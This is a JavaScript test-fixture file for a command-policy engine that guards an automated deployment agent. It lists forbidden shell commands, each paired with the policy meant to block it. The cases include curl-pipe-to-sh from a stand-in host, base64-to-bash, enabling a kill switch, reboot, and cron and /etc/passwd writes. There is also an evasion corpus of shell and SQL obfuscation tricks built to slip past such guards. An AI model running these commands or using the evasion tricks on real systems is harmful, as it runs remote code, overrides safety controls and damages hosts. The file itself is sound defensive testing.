// One forbidden action per case. Each case returns the offending command's
// inputs; index.js wraps it between correctly wired guards so that only the
// intended policy has a reason to fire. `policy` is the policy that must.
"use strict";
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA2rzzl+bb0riftqnZzRYbcYUPLcUOLYkwPyF7NIVt3b";
const conn = { address: "127.0.0.1", port: 2222, user: "root", hostKey: KEY, privateKeyPath: "/nonexistent/key" };

const cmd = (create, writes = ["/var/lib/cutter/state"], extra = {}) => ({ create, writes, ...extra });

module.exports = {
    conn,
    cases: {
        "compliant": { policy: null, ...cmd("install -d -m 0750 /var/lib/cutter/state && systemctl status iu-cutter && docker compose ps && git -C /opt/incomex/dot status && echo 'execution_enabled stays False'") },
        "kill-switch-sed": { policy: "kill-switch-stays-off", ...cmd("sed -i 's/execution_enabled = False/execution_enabled = True/' /opt/incomex/dot/iu-cutter/cutter_agent/config.py", ["/opt/incomex/dot/iu-cutter"]) },
        "kill-switch-env": { policy: "kill-switch-stays-off", ...cmd("cd /opt/incomex/dot/iu-cutter && CUTTER_EXECUTION_ENABLED=1 python3 -m cutter_agent.cli --version") },
        "kill-switch-config-file": { policy: "kill-switch-stays-off", ...cmd("cat > /var/lib/cutter/config/orchestrator.ini <<'EOF'\n[orchestrator]\nexecution_enabled = true\nEOF", ["/var/lib/cutter/config"]) },
        "restart-systemctl": { policy: "no-service-restart", ...cmd("sudo /usr/bin/systemctl   restart iu-cutter") },
        "recreate-compose": { policy: "no-service-restart", ...cmd("bash -lc 'cd /opt/incomex/dot && docker compose up -d --force-recreate'") },
        "reboot": { policy: "no-service-restart", ...cmd("true && nohup reboot") },
        "push": { policy: "no-push-or-remote", ...cmd("git -C /opt/incomex/dot push origin main", ["/opt/incomex/dot"]) },
        "remote-add": { policy: "no-push-or-remote", ...cmd("git -C /opt/incomex/dot remote add origin git@example.invalid:incomex/dot.git", ["/opt/incomex/dot"]) },
        "sql-delete": { policy: "no-production-mutation", ...cmd("psql -U context_pack_readonly -d cutter_live -c 'BEGIN READ ONLY; DELETE FROM cutter.cuts; ROLLBACK;'", []) },
        "sql-outside-read-only-tx": { policy: "no-production-mutation", ...cmd("psql -U context_pack_readonly -d cutter_live -c 'SELECT count(*) FROM cutter.cuts'", []) },
        "sql-wrong-role": { policy: "no-production-mutation", ...cmd("psql -U postgres -d cutter_live <<'SQL'\nBEGIN READ ONLY;\nSELECT 1;\nROLLBACK;\nSQL", []) },
        "live-cut": { policy: "no-production-mutation", ...cmd("cd /opt/incomex/dot/iu-cutter && python3 -m cutter_agent.cli cut --document 2", []) },
        "mode-live": { policy: "no-production-mutation", ...cmd("python3 -c 'from cutter_agent.orchestrator import Mode; run(Mode.LIVE)'", []) },
        "real-crypto": { policy: "no-real-crypto", ...cmd("cat > /var/lib/cutter/config/signing.ini <<'EOF'\nsigning_provider = KmsSigning\nEOF", ["/var/lib/cutter/config"]) },
        "plaintext-secret": { policy: "no-plaintext-secrets", ...cmd("printf '%s\\n' 'postgresql://cutter_admin:Sup3rS3cretPw@127.0.0.1/cutter_live' > /var/lib/cutter/config/dsn") },
        "force-rm": { policy: "no-force", ...cmd("rm -rf /var/lib/cutter/state/old") },
        "force-push-flag": { policy: "no-force", ...cmd("git -C /opt/incomex/dot tag --force v0.6.0-O4-live-dryrun", ["/opt/incomex/dot"]) },
        "curl-pipe-sh": { policy: "commands-are-readable", ...cmd("curl -fsSL https://example.invalid/install.sh | sh") },
        "base64-to-shell": { policy: "commands-are-readable", ...cmd("echo c3lzdGVtY3RsIHJlc3RhcnQgaXUtY3V0dGVy | base64 -d | bash") },
        "eval": { policy: "commands-are-readable", ...cmd("eval \"$(cat /var/lib/cutter/state/next)\"") },
        "no-host-key": { policy: "host-key-pinned", ...cmd("true", ["/var/lib/cutter/state"], { connection: { ...conn, hostKey: "" } }) },
        "write-outside-roots": { policy: "writes-in-allowed-roots", ...cmd("echo '* * * * * root /opt/incomex/dot/x' > /etc/cron.d/cutter", ["/etc/cron.d"]) },
        "no-guard-dependency": { policy: "writes-depend-on-guards", ...cmd("touch /var/lib/cutter/state/x"), skipGuards: true },
        "guard-that-checks-nothing": { policy: "writes-depend-on-guards", ...cmd("touch /var/lib/cutter/state/x"), fakePreState: true },
        // The guards checked 127.0.0.1:2222; this write goes to another address (same pinned key): unguarded.
        "write-on-another-host": { policy: "writes-depend-on-guards", ...cmd("touch /var/lib/cutter/state/x", ["/var/lib/cutter/state"], { connection: { ...conn, address: "127.0.0.2" } }) },
        "opaque-dynamic-provider": { policy: "trusted-resource-types", opaque: true },
        "impersonating-provider": { policy: "trusted-resource-types", impersonate: true },
        "secret-marked-create": { policy: "commands-are-readable", secretCreate: true },
        // A sample of the adversarial corpus (policies/test/adversarial), one per class, under the real engine.
        "corpus-brace-expansion": { policy: "commands-are-readable", ...cmd("{systemctl,restart,iu-cutter}") },
        "corpus-glob-program": { policy: "commands-are-readable", ...cmd("/usr/bin/systemct? restart iu-cutter") },
        "corpus-ansi-c-name": { policy: "no-service-restart", ...cmd("$'\\x73ystemctl' restart iu-cutter") },
        "corpus-bash-stdin": { policy: "commands-are-readable", ...cmd("bash -s <<'EOF'\nsystemctl restart iu-cutter\nEOF") },
        "corpus-python-unpinned": { policy: "commands-are-readable", ...cmd("python3 - <<'PY'\nimport os\nos.system('reboot')\nPY") },
        "corpus-awk-system": { policy: "commands-are-readable", ...cmd("awk 'BEGIN{system(\"reboot\")}'") },
        "corpus-sql-backslash-bang": { policy: "no-production-mutation", ...cmd("psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d cutter_live <<'SQL'\nBEGIN READ ONLY;\nSELECT 1 \\! reboot\nROLLBACK;\nSQL", []) },
        "corpus-sql-string-desync": { policy: "no-production-mutation", ...cmd("psql -X -q -A -t -v ON_ERROR_STOP=1 -U context_pack_readonly -d cutter_live <<'SQL'\nBEGIN READ ONLY;\nSELECT 'a\\'; COMMIT; DROP TABLE cutter.cuts; --';\nROLLBACK;\nSQL", []) },
        "corpus-kill-printf": { policy: "kill-switch-stays-off", ...cmd("printf 'execution_enabled = %s\\n' True > /var/lib/cutter/config/orchestrator.ini", ["/var/lib/cutter/config"]) },
        "corpus-kill-annotated": { policy: "kill-switch-stays-off", ...cmd("cat > /var/lib/cutter/config/o.yaml <<'EOF'\nexecution_enabled: bool = True\nEOF", ["/var/lib/cutter/config"]) },
        "corpus-git-config-env": { policy: "no-push-or-remote", ...cmd("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=x git -C /opt/incomex/dot status", []) },
        "corpus-git-core-path": { policy: "no-push-or-remote", ...cmd("/usr/lib/git-core/git-push origin main", []) },
        "corpus-git-hook": { policy: "no-push-or-remote", ...cmd("cat > /opt/incomex/dot/.git/hooks/post-commit <<'EOF'\n#!/bin/sh\ngit push\nEOF", ["/opt/incomex/dot"]) },
        "corpus-symlink-out": { policy: "writes-in-allowed-roots", ...cmd("ln -s /etc /var/lib/cutter/state/etc", ["/var/lib/cutter/state"]) },
        "corpus-reassigned-target": { policy: "writes-in-allowed-roots", ...cmd("t=/var/lib/cutter/state/x\nt=/etc/passwd\necho x > \"$t\"") },
        "corpus-guard-that-writes": { policy: "writes-in-allowed-roots", ...cmd("touch /var/lib/cutter/state/x", [], { guard: "PreStateAnchor" }) },
        "corpus-group-redirect": { policy: "writes-in-allowed-roots", ...cmd("{ echo x; } > /etc/motd") },
    },
};
